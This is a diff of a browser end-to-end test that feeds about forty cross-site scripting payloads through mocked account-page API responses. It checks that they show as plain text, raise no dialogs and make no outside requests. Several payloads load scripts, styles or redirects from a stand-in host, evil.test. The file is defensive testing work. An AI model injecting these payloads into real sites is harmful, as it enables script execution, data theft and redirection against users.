@@ -93,46 +93,86 @@ function sideways(page: Page): Promise<number> {
   return page.evaluate<number>(`${root}.scrollWidth - ${root}.clientWidth`);
 }
 
+/** Forty ways in: elements, attributes, addresses, encodings, templates, and breaking out of where data is written. */
 const PAYLOADS = [
   `<script>alert(1)</script>`,
-  `<img src=x onerror=alert(1)>`,
-  `"><svg onload=alert(1)>`,
-  `javascript:alert(1)`,
-  `{{constructor.constructor('alert(1)')()}}`,
-  `$t(login:signIn) <b>bold</b>`,
+  `<ScRiPt src=//evil.test/x.js></sCrIpT>`,
+  `<script>alert(1)//`,
+  `<<script>alert(1)//<</script>`,
+  `<svg><script>alert(1)</script></svg>`,
+  `</script><script>alert(1)</script>`,
   `</title><script>alert(1)</script>`,
+  `</textarea><script>alert(1)</script>`,
+  `--><script>alert(1)</script>`,
+  `]]><script>alert(1)</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+  `<img src=x onerror=alert(1)>`,
+  `<img/src=x/onerror=alert(1)>`,
+  `<img src=//evil.test/pixel.png>`,
+  `"><svg onload=alert(1)>`,
+  `'><svg/onload=alert(1)>`,
+  `<body onload=alert(1)>`,
+  `<details open ontoggle=alert(1)>`,
+  `<video><source onerror=alert(1)>`,
+  `<input autofocus onfocus=alert(1)>`,
+  `<marquee onstart=alert(1)>`,
+  `" onmouseover="alert(1)" x="`,
+  `' autofocus onfocus='alert(1)`,
   `<iframe srcdoc="<script>alert(1)</script>">`,
+  `<iframe src=javascript:alert(1)>`,
+  `<object data=data:text/html,<script>alert(1)</script>>`,
+  `<embed src=//evil.test/x.swf>`,
+  `<link rel=stylesheet href=//evil.test/x.css>`,
+  `<style>@import "//evil.test/x.css"</style>`,
+  `<meta http-equiv=refresh content=0;url=//evil.test>`,
+  `<base href=//evil.test/>`,
+  `<form action=//evil.test><button>x`,
+  `<math><mtext><mglyph><style><img src=x onerror=alert(1)>`,
+  `<a href=javascript:alert(1)>x</a>`,
+  `javascript:alert(1)`,
+  `data:text/html,<script>alert(1)</script>`,
+  `&lt;script&gt;alert(1)&lt;/script&gt;`,
+  `{{constructor.constructor('alert(1)')()}}`,
+  `\${alert(1)} $t(login:signIn) <0>bold</0>`,
+  `\u202Ealert(1)\u2028<script>alert(1)</script>`,
 ];
 
 describe("texts from outside are shown as they stand and run nowhere", () => {
-  test.each(PAYLOADS)("%s", async (payload) => {
+  test("there are forty of them", () => expect(new Set(PAYLOADS).size).toBe(40));
+
+  test.each([0, 10, 20, 30])("ten from the %ith on", async (from) => {
+    const texts = PAYLOADS.slice(from, from + 10);
+    const [first = ""] = texts;
     const { page, context, faults } = await signedIn({});
     const dialogs: string[] = [];
     page.on("dialog", async (dialog) => {
       dialogs.push(dialog.message());
       await dialog.dismiss();
     });
-    await page.route("**/v4/**", (route) => poison(route, payload));
-    await page.goto("/user/profile");
-    await page.getByText(payload).first().waitFor();
-    await page.goto("/user/device");
-    await page.getByText(payload).first().waitFor();
+    await page.route("**/v4/**", (route) => poison(route, texts));
+    const shown = () => page.locator("main").textContent();
+    for (const path of ["/user/profile", "/user/device"]) {
+      await page.goto(path);
+      for (const text of texts) await expect.poll(shown, PATIENCE).toContain(text);
+    }
     await page.goto("/user/delete");
-    await page.getByText(payload).first().waitFor();
+    await expect.poll(shown, PATIENCE).toContain(first);
     await page.locator("input[name=sure]").check();
     await page.locator("input[name=password]").fill("some password");
     await page.locator("form button[type=submit]").click();
-    await page.locator("form").getByText(payload).first().waitFor();
-    expect(dialogs).toEqual([]);
+    await expect.poll(() => page.locator("form").textContent(), PATIENCE).toContain(first);
+    expect([dialogs, faults.foreignRequests]).toEqual([[], []]);
     expect(faults.errors.filter((error) => !error.includes("404"))).toEqual([]);
     await context.close();
   });
 });
 
+const PATIENCE = { timeout: 15_000 };
 const AT = "2026-11-28T00:00:00.000Z";
 
-/** Answers the calls of the personal centre with one text in every free string, and refuses every change with it. */
-async function poison(route: Route, text: string): Promise<void> {
+/** Answers the calls of the personal centre with such texts in every free string, and refuses every change with one. */
+async function poison(route: Route, texts: string[]): Promise<void> {
+  const [text = ""] = texts;
   const name = new URL(route.request().url()).pathname.split("/").at(-1) ?? "";
   const answers: Record<string, unknown> = {
     system_user_info: {
@@ -146,30 +186,26 @@ async function poison(route: Route, text: string): Promise<void> {
     },
     user_get_device_list: {
       maxDevices: 5,
-      devices: [
-        {
-          id: "A".repeat(22),
-          type: 1,
-          systemType: 3,
-          deviceId: text,
-          systemVersion: text,
-          name: text,
-          lastSeenAt: AT,
-          current: false,
-        },
-      ],
+      devices: texts.map((text, at) => ({
+        id: idAt(at),
+        type: 1,
+        systemType: 3,
+        deviceId: text,
+        systemVersion: text,
+        name: text,
+        lastSeenAt: AT,
+        current: false,
+      })),
     },
     user_sessions: {
-      sessions: [
-        {
-          id: "B".repeat(22),
-          platform: "windows",
-          deviceName: text,
-          createdAt: AT,
-          lastUsedAt: AT,
-          current: false,
-        },
-      ],
+      sessions: texts.map((text, at) => ({
+        id: idAt(at),
+        platform: "windows",
+        deviceName: text,
+        createdAt: AT,
+        lastUsedAt: AT,
+        current: false,
+      })),
     },
   };
   const data = answers[name];
@@ -178,4 +214,8 @@ async function poison(route: Route, text: string): Promise<void> {
       ? { code: 400, msg: text, status: "InvalidRequest", data: null }
       : { code: 200, msg: "", status: "OK", data };
   await route.fulfill({ json });
+}
+
+function idAt(at: number): string {
+  return String(at).padStart(22, "A");
 }
